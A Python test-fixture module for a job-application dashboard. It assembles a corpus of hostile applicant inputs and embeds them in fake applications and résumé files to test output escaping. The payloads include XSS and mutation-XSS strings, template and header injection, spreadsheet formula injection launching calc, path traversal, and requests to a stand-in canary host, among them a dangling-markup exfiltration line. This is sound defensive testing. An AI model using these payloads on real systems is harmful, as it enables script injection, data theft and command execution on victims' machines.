"""What an applicant might send to harm whoever reads it: a corpus of payloads, and applications made of nothing else.

Every payload, unescaped where it hurts, does something that `tests/browser/harm.py` sees: it calls `ran(N)`, asks for
`//canary.invalid/N`, or leaves an element or attribute behind. `tests/browser/test_hostile_detector.py` proves that
each does, `tests/browser/test_hostile_pages.py` that no page of ours lets any do so.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any, Final, Literal
from xml.sax.saxutils import escape

from dashboard.talroo import wire
from tests.documents.made_documents import docx, odt, paragraph
from tests.factories import payload as example

Path = tuple[str, ...]
Hurts = Literal["runs", "asks", "stands", "nothing"]
"""What a payload does where it hurts: runs a script, asks a stranger for something, or stands in the page as HTML.

`nothing`: it is meant for no page (a spreadsheet, a mail's headers, a file's name) but must pass through all of them.
"""

CANARY: Final = "canary.invalid"
HERE: Final = "\N{SECTION SIGN}"
"""Stands in a payload for its number, and in a page for the payload."""
PRODUCT: Final = str(1337 * 1009)
"""What a payload for templates computes."""

# --- where a payload hurts: pages that escape nothing -----------------------------------------------------------------

TEXT: Final = "<p>§</p>"
DOUBLE: Final = '<input value="§">'
SINGLE: Final = "<input value='§'>"
BARE: Final = "<input value=§>"
LINK: Final = '<a id="press" href="§">go</a>'
FRAME: Final = '<iframe src="§"></iframe>'
STRING: Final = '<script>const name = "§";</script>'
LITERAL: Final = "<script>const name = `§`;</script>"
LINE: Final = "<script>// §\n</script>"
RULE: Final = "<style>p { color: §; }</style><p>x</p>"
SHEET: Final = "<style>§</style><p>x</p>"
STYLED: Final = '<p style="color: §">x</p>'
COMMENT: Final = "<!-- § --><p>x</p>"
TITLE: Final = "<title>§</title><p>x</p>"
AREA: Final = "<textarea>§</textarea>"
NOSCRIPT: Final = "<noscript>§</noscript>"
CDATA: Final = "<svg><![CDATA[§]]></svg>"
DANGLING: Final = "<p>§</p><p>It's a secret</p>"
ROUND_TRIP: Final = """<div id="one"></div><div id="two"></div><textarea id="given" hidden>§</textarea>
<script>one.innerHTML = given.value; two.innerHTML = one.innerHTML</script>"""
"""As what cleans HTML by parsing it and writing it out again; the payload is escaped in it."""


@dataclass(frozen=True, slots=True)
class Payload:
    """`where` it hurts, unescaped; `after` what a careless page does to it before."""

    text: str
    hurts: Hurts
    where: tuple[str, ...] = ()
    after: Literal["", "unescaping", "unquoting", "normalizing", "rendering"] = ""


def _runs(text: str, *where: str, after: Any = "") -> Payload:
    return Payload(text, "runs", where or (TEXT,), after)


def _asks(text: str, *where: str) -> Payload:
    return Payload(text, "asks", where or (TEXT,))


def _stands(text: str, *where: str, after: Any = "") -> Payload:
    return Payload(text, "stands", where or (TEXT,), after)


def _passes(text: str) -> Payload:
    return Payload(text, "nothing")


_WRITTEN: Final = (
    # elements
    _runs("<script>ran(§)</script>"),
    _runs("<img src=x onerror=ran(§)>"),
    _runs("<svg/onload=ran(§)>"),
    _runs("<svg><script>ran&lpar;§&rpar;</script>"),
    _runs('<iframe srcdoc="<script>parent.ran(§)</script>">'),
    _runs("<details open ontoggle=ran(§)>x"),
    _runs("<sCrIpT\n>ran(§)</ScRiPt\t>"),
    _runs("<a id=press href=jav&#x09;ascript:ran(§)>go</a>"),
    _asks("<meta http-equiv=refresh content='0;url=//canary.invalid/§'>"),
    _asks("<link rel=stylesheet href=//canary.invalid/§>"),
    _asks("<img src='//canary.invalid/§?", DANGLING),
    _stands("<base href=//canary.invalid/§/>"),
    _stands("<form action=//canary.invalid/§><button>Sign in"),
    _stands("<p hx-get=//canary.invalid/§ hx-trigger=click>"),
    # attributes
    _runs("\" autofocus onfocus=\"ran(§)", DOUBLE),
    _runs('"><img src=x onerror=ran(§)>', DOUBLE),
    _runs("' autofocus onfocus='ran(§)", SINGLE),
    _runs("x autofocus onfocus=ran(§)", BARE),
    _stands('" data-hostile="§', DOUBLE),
    # what a second decoding would bring back
    _runs("&#34;&gt;&lt;img src=x onerror=ran(§)&gt;", after="unescaping"),
    _runs("%3Cimg%20src=x%20onerror=ran(§)%3E", after="unquoting"),
    _runs("＜img src=x onerror=ran(§)＞", after="normalizing"),
    # addresses
    _runs("javascript:ran(§)", LINK, FRAME),
    _runs("\x01 JaVa\nScRi\tpT:ran(§)//", LINK),
    _runs("javascript://canary.invalid/%0aran(§)", LINK),
    _stands("data:text/html,<img src=http://canary.invalid/§>", FRAME),
    _stands("vbscript:ran(§)", LINK),
    _asks("//canary.invalid/§", LINK, FRAME),
    # scripts and styles
    _runs('";ran(§);//', STRING),
    _runs("</script><script>ran(§)</script>", STRING),
    _runs("${ran(§)}", LITERAL),
    _runs("\u2028ran(§)//", LINE),
    _asks("red}*{background:url(//canary.invalid/§)", RULE),
    _asks("@import'//canary.invalid/§';", SHEET),
    _asks("red;background:url(//canary.invalid/§)", STYLED, RULE),
    # out of what holds text
    _runs("</title></textarea></noscript></style></script>--!>]]><img src=x onerror=ran(§)>",
          *(COMMENT, TITLE, AREA, NOSCRIPT, CDATA, SHEET, STRING)),
    _runs("<noscript><p title='</noscript><img src=x onerror=ran(§)>'>", TEXT),
    # what changes when it is parsed a second time
    _runs("<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(§)>", ROUND_TRIP),
    _runs("<svg></p><style><a id='</style><img src=x onerror=ran(§)>'>", ROUND_TRIP),
    # templates
    _stands("{{1337*1009}}", after="rendering"),
    _stands("{%print(1337*1009)%}", after="rendering"),
    _passes("{email}{first_name|<b>}{0.__class__}%s%n"),
    # letters
    _stands("\u202e<b data-hostile=§>\u2066\u200b"),
    _stands("\x00\ud83d<b\x0cdata-hostile=§>\ufeff"),
    _passes("+ADw-script+AD4-ran(§)+ADw-/script+AD4-"),
    # headers, of answers and of mails
    _stands("x\r\nSet-Cookie: hostile=§\r\n\r\n<b data-hostile=§>"),
    _passes("x\r\nBcc: h§@canary.invalid\r\n\r\n.\r\n"),
    _passes("=?utf-8?q?x=0d=0aBcc:h§@canary.invalid?="),
    _passes("a@b.example?bcc=h§@canary.invalid&body=x"),
    # spreadsheets
    _passes('=HYPERLINK("http://canary.invalid/§","x")'),
    _passes("+1+cmd|' /C calc'!A§"),
    _passes("-2+3+cmd|' /C calc'!A§"),
    _passes("@SUM(1+1)*cmd|' /C calc'!A§"),
    _passes("\t=1+§"),
    _passes("\r\n  =1+§"),
    _passes("\u00a0\u200b\ufeff=1+§"),
    _passes("＝1+§"),
    _passes('";=1+§;"\n=1+§'),
    # names of files
    _passes("../../../etc/cron.d/h§.html"),
    _passes("..\\..\\C:\\CON.h§.svg\x85"),
    _passes('h§.pdf"; filename="h.html'),
)  # fmt: skip

CORPUS: Final = tuple(
    Payload(one.text.replace(HERE, str(number)), one.hurts, one.where, one.after)
    for number, one in enumerate(_WRITTEN, 1)
)
"""Every payload, with its number in it."""

LONGEST: Final = 100
"""Characters that every field of the payload has room for."""
_AT_THE_START: Final = frozenset((LINK, FRAME, SHEET, STYLED))
"""Where only what a text begins with hurts; so it is with a formula."""
_FORMULA: Final = re.compile(r"[\s\u200b\ufeff]*[=+\-@＝]")


def _grouped() -> tuple[str, ...]:
    first = [one.text for one in CORPUS if _FORMULA.match(one.text) or _AT_THE_START & {*one.where}]
    groups = list(first)
    for text in sorted((one.text for one in CORPUS if one.text not in first), key=len, reverse=True):
        room = [group for group in groups if len(group) + 1 + len(text) <= LONGEST]
        if fullest := max(room, key=len, default=None):
            groups[groups.index(fullest)] = f"{fullest} {text}"
        else:
            groups.append(text)
    return tuple(groups)


WORDS: Final = _grouped()
"""The whole corpus in few texts, which fit every field: what must begin a text does."""

# --- applications ---------------------------------------------------------------------------------------------------

TURNS: Final = range(len(WORDS))
Kind = Literal["completed:v2", "started:v1", "pulled"]
KEPT: Final[Mapping[Path, str]] = {
    ("type",): "says what kind of event it is; `kept_event` has a hostile one",
    ("data", "completed"): "says whether it is complete",
    ("data", "qualified"): "false, so that the reason is shown: an option's label",
}
"""What stays as it is in `application`, and why."""
_OWN: Final = (
    *(("id",), ("data", "id"), ("data", "tlrSid"), ("data", "tlrApplicationId")),
    ("data", "applicant", "emailAddress"),
)
"""By these an application is known as the same or as somebody's: each kind has its own."""
_NAMES: Final = frozenset({"id", "value", "answer"})
"""Keys whose values refer to each other: what is the same stays the same."""


def application(turn: int, kind: Kind = "completed:v2", *, email: str | None = None) -> dict[str, Any]:
    """An event in which each text is one of `WORDS`, the next at each place. `pulled`: an item of the list.

    Over `TURNS`, each place has each of `WORDS` once. `email` stands for the address where one is given.
    """
    made = _Maker(turn, kind).event()
    if email is not None:
        made["data"]["applicant"]["emailAddress"] = email
    if kind != "pulled":
        return made
    # By these a list is read: when they cannot be, it is another test's matter.
    return made["data"] | {"createdAt": f"2026-11-{1 + turn % 20:02}T15:00:03Z"}


def kept_event(turn: int) -> dict[str, Any]:
    """An event of a type nobody knows, in the words of the corpus."""
    return {**application(turn), "type": WORDS[turn], "id": f"kept {turn} {WORDS[turn]}"}


class _Maker:
    def __init__(self, turn: int, kind: Kind) -> None:
        self._turn, self._kind = turn, kind
        self._at = 0
        self._names: dict[str, str] = {}

    def event(self) -> dict[str, Any]:
        made = self._made(_shape(), ())
        made["type"] = f"platform:JobApplication:{'started:v1' if self._kind == 'pulled' else self._kind}"
        made["data"]["completed"] = self._kind == "completed:v2"
        made["data"]["qualified"] = self._next() if self._kind == "started:v1" else False
        return dict(made)

    def _next(self) -> str:
        self._at += 1
        return WORDS[(self._turn + self._at) % len(WORDS)]

    def _made(self, value: Any, path: Path) -> Any:
        if isinstance(value, list):
            return [self._made(one, path) for one in value]
        if isinstance(value, dict) and "data" in value and "fileName" in value:
            return self._file(value)
        if isinstance(value, dict):
            # A name of a key as of an id: an answer's keys are ids of questions.
            return {self._key(key, path): self._made(one, (*path, key)) for key, one in value.items()}
        if path[-2:] == ("question", "type") or (path[-1] == "correct" and value is True):
            return self._next() if value == "hostile" else value
        if path in _OWN:
            return f"{self._next()}~{self._kind}"
        return self._name(str(value)) if set(path) & _NAMES and value is not None else self._next()

    def _key(self, key: str, path: Path) -> str:
        return self._name(key) if "answer" in path or key.startswith("?") else key

    def _name(self, name: str) -> str:
        if name not in self._names:
            self._names[name] = f"{self._next()}~{len(self._names)}"
        return self._names[name]

    def _file(self, told: dict[str, Any]) -> dict[str, Any]:
        content = list(DOCUMENTS.values())[(self._turn + self._at) % len(DOCUMENTS)]()
        made = {key: self._next() for key in told}
        # Every other one has its true hash.
        digest = hashlib.sha256(content).hexdigest() if self._turn % 2 else made["contentSha256"]
        return made | {"contentSha256": digest, "data": base64.b64encode(content).decode()}


def _shape() -> dict[str, Any]:
    """A complete application with everything in it that any of our examples has, and more."""
    made = copy.deepcopy(example("complete"))
    data = made["data"]
    made["deliveryAttempt"] = data["job"]["remote"] = data["applicant"]["pronouns"] = data["?unknown"] = "x"
    data["?object"] = {"?in it": ["x", {"?deep": "x"}]}
    options = [{"label": "x", "value": "good", "correct": True}, {"label": "x", "value": "bad", "correct": None}]
    asked = data["questionsAndAnswers"]["questionsAndAnswers"]
    asked += [
        _asked("must", "select", "bad", options=options, required=True),
        _asked("new", "hostile", "x", scale="x"),
        _asked("said", "information", None),
        _asked("break", "pagebreak", None),
        _asked("object", "text", {"?key": "x", "?list": ["x", {"?deep": "x"}]}),
        _asked("tree", "hierarchical", {"tree": "bad", "?stray": "x"}, options=options, hierarchicalOptions=[]),
        {"question": None, "answer": "x"},
        {"question": "x", "answer": "x"},
        "x",
    ]
    data["qualifyingQuestionAnswers"] = [_asked("old", "select", "bad", options=options)]
    return made


def _asked(name: str, kind: str, answer: Any, **fields: Any) -> dict[str, Any]:
    return {"question": {"id": name, "type": kind, "question": "x", **fields}, "answer": answer}


def leaves(value: Any, path: Path = ()) -> Iterator[tuple[Path, Any]]:
    """Every value that is no object or array, with its path; places in arrays do not count."""
    if isinstance(value, dict):
        for key, one in value.items():
            yield from leaves(one, (*path, key))
    elif isinstance(value, list):
        for one in value:
            yield from leaves(one, path)
    else:
        yield path, value


def is_hostile(value: Any) -> bool:
    return isinstance(value, str) and any(one.text in value for one in CORPUS)


# --- what it is to look like ------------------------------------------------------------------------------------------


def plain(text: str) -> str:
    """`text` as it is compared: what no database keeps replaced, spaces of all kinds as one."""
    return " ".join(wire.clean(text).replace("\ufeff", " ").replace("\x00", "\ufffd").split())


def in_a_header(text: str) -> str:
    """What of `text` a header can carry at all."""
    return re.sub(r"[^\x20-\x7e]+", " ", text).strip()


def in_a_query(text: str) -> str:
    """`text` with only so much quoted that our server takes the address."""
    return "".join(
        one if "!" <= one <= "~" and one not in '"#<>\\^`{|}' else f"%{min(ord(one), 255):02X}" for one in text
    )


# --- résumés ----------------------------------------------------------------------------------------------------------

_NO_XML: Final = re.compile("[\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]")


def _lines() -> list[str]:
    return [_NO_XML.sub(" ", one.text) for one in CORPUS]


def _rtf() -> bytes:
    def written(one: str) -> str:
        return f"\\{one}" if one in "\\{}" else one if " " <= one <= "~" else f"\\u{ord(one)}?"

    return ("{\\rtf1\\ansi " + "\\par ".join("".join(map(written, line)) for line in _lines()) + "}").encode()


def _page() -> bytes:
    return ("<!doctype html><html><body>" + "".join(_lines()) + "</body></html>").encode("utf-8", "replace")


def _drawing() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="ran(0)"><script>ran(0)</script></svg>'


def _typed() -> bytes:
    return "\n".join(["My years at the till", *_lines()]).encode()


def _overlong() -> bytes:
    """Text with bytes that a careless reader of UTF-8 takes for `<` and `>`."""
    return _typed() + b"\n\xc0\xbcscript\xc0\xberan(0)\xc0\xbc/script\xc0\xbe\n"


DOCUMENTS: Final[Mapping[str, Callable[[], bytes]]] = {
    "docx": lambda: docx("".join(paragraph(escape(line)) for line in _lines())),
    "rtf": _rtf,
    "odt": lambda: odt("".join(f"<text:p>{escape(line)}</text:p>" for line in _lines())),
    "txt": _typed,
    "overlong": _overlong,
    "html": _page,
    "svg": _drawing,
}
"""Files that say the whole corpus, by kind."""
